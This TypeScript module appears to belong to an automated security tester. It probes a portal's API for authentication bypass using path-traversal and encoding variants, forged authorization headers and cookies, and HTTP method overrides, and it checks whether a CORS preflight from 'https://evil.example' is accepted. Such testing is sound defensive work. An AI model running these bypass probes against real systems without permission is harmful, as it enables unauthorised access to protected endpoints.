import { readMatrix } from '../../support/matrix.ts';
import type { CallOptions } from '../../support/call.ts';
import type { Finding } from '../attack.ts';
import type { TimedAnswer } from '../target/browser.ts';
import type { Target } from '../target/target.ts';

/** Other ways to write an address, by which a guard and a router that read it differently could be told apart. */
const SPELLINGS: readonly ((path: string) => string)[] = [
  (path) => `/api${path}/`,
  (path) => `/api${path}.`,
  (path) => `/api${path}.json`,
  (path) => `/api/${path}`,
  (path) => `//api${path}`,
  (path) => `/api/.${path}`,
  (path) => `/api/%2e${path}`,
  (path) => `/api/docs/..${path}`,
  (path) => `/api/docs/%2e%2e${path}`,
  (path) => `/api/docs/..%2f..%2fapi${path}`,
  (path) => `/api/health/..;${path}`,
  (path) => `/api${path};token=1`,
  (path) => `/api${path}%00`,
  (path) => `/api${path}%20`,
  (path) => `/api${path}?access_token=admin&token=admin`,
  (path) => `/api${path.toLowerCase()}`,
  (path) => `/API${path.toUpperCase()}`,
  (path) => `/api${path.replace(/(\w)/, (first) => `%${first.charCodeAt(0).toString(16)}`)}`,
  (path) => `http://localhost/api${path}`,
  (path) => `/api\\${path.slice(1)}`,
];

/** Headers that some servers and balancers let decide. */
const HEADERS: readonly Readonly<Record<string, string>>[] = [
  { 'x-original-url': '/api/health' },
  { 'x-rewrite-url': '/api/health' },
  { 'x-forwarded-for': '127.0.0.1' },
  { 'x-forwarded-host': 'localhost' },
  { authorization: 'Bearer' },
  { authorization: 'Bearer null' },
  { authorization: 'Bearer undefined' },
  { authorization: 'Basic YWRtaW46UG9ydGFsIzIwMjY=' },
  { cookie: 'token=admin; jwtToken=admin; userType=admin' },
  { 'accept-version': '0' },
  { 'x-user-id': 'admin' },
];

/** Addresses of what needs a token, written in other ways, with other methods and with headers, by nobody. */
export async function pathTricks(target: Target): Promise<Finding[]> {
  const guarded = readMatrix().filter(({ verdicts, path }) => verdicts['nobody'] === '401' && !path.includes(':'));
  const reads = target.random.some(
    guarded.filter(({ method }) => method === 'GET'),
    target.times(30, 3),
  );
  const writes = target.random.some(
    guarded.filter(({ method }) => method !== 'GET'),
    target.times(20, 2),
  );
  const nobody = target.stranger();
  const findings: Finding[] = [];
  const attempt = async (method: string, path: string, options: CallOptions = {}) => {
    const reply = await nobody.call(method, path, options);
    if (opens(reply))
      findings.push({
        what: `${method} ${path} answers ${reply.status} to nobody`,
        reproduce: `${method} ${path} with ${JSON.stringify(options)}`,
      });
  };
  for (const { path } of reads) {
    for (const spell of SPELLINGS) await attempt('GET', spell(path));
    for (const headers of HEADERS) await attempt('GET', `/api${path}`, { headers });
    for (const method of ['HEAD', 'POST', 'PROPFIND', 'TRACE', 'get']) await attempt(method, `/api${path}`);
  }
  for (const { path, method } of writes) {
    for (const override of ['x-http-method-override', 'x-http-method', 'x-method-override']) {
      await attempt('GET', `/api${path}`, { headers: { [override]: method } });
      await attempt('POST', `/api${path}?_method=${method}`, { headers: { [override]: method }, body: {} });
    }
    await attempt(method, `/api${path}`, { headers: { 'content-type': 'text/plain' }, body: '{}' });
  }
  for (const origin of ['https://evil.example', 'null']) {
    const { headers } = await nobody.call('OPTIONS', `/api${reads[0]!.path}`, {
      headers: { origin, 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' },
    });
    if (headers.has('access-control-allow-origin'))
      findings.push({
        what: `Pages of ${origin} may call the API`,
        reproduce: `OPTIONS /api${reads[0]!.path} with origin: ${origin}`,
      });
  }
  return findings;
}

/** The portal's own page is nobody's secret: any address that is not the API's answers with it. */
const opens = ({ status, headers }: TimedAnswer): boolean =>
  status >= 200 && status < 300 && !headers.get('content-type')?.startsWith('text/html');
